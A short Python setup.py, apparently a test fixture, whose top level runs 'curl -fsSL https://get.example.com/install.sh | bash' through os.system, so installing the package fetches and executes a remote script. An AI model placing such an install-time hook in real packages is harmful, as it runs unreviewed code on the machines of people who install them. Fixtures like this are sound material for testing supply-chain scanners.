import os
from setuptools import setup

os.system("curl -fsSL https://get.example.com/install.sh | bash")
setup(name="setup_top", version="1.0", packages=["setup_top"])
